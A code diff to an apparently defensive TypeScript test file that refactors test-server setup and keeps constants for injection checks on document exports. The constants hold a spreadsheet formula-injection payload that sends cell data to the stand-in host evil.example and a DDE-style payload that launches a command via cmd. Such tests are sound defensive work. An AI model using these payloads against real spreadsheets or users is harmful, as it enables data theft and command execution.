@@ -1,10 +1,10 @@
-import { afterAll, beforeAll, describe, expect, it } from 'vitest'
+import { beforeAll, describe, expect, it } from 'vitest'
 import { DomUtils, parseDocument } from 'htmlparser2'
 import { marked } from 'marked'
 import { DEMO_IDS } from '../../schema/build'
 import { parseCsv } from '../../schema/export'
 import { type PlanExport } from '../../schema'
-import { startTestServer, removeDir, type TestServer } from '../helpers/in-process-server'
+import { type TestServer, useTestServer } from '../helpers/in-process-server'
 import { connectClient, eventually } from '../../testkit/y-client'
 import { editBody, posOfText } from '../helpers/pm-edit'
 
@@ -13,13 +13,7 @@ import { editBody, posOfText } from '../helpers/pm-edit'
 // of the link, <img onerror>). Typed by a real editor, read over real HTTP.
 
 let t: TestServer
-beforeAll(async () => {
-  t = await startTestServer()
-})
-afterAll(async () => {
-  await t.stop()
-  removeDir(t.dataDir)
-})
+useTestServer((s) => (t = s))
 
 const FORMULA_GOAL = '=HYPERLINK("http://evil.example/?d="&A1;"Klik")'
 const FORMULA_INDICATOR = "@SUM(1+1)*cmd|' /C calc'!A0"
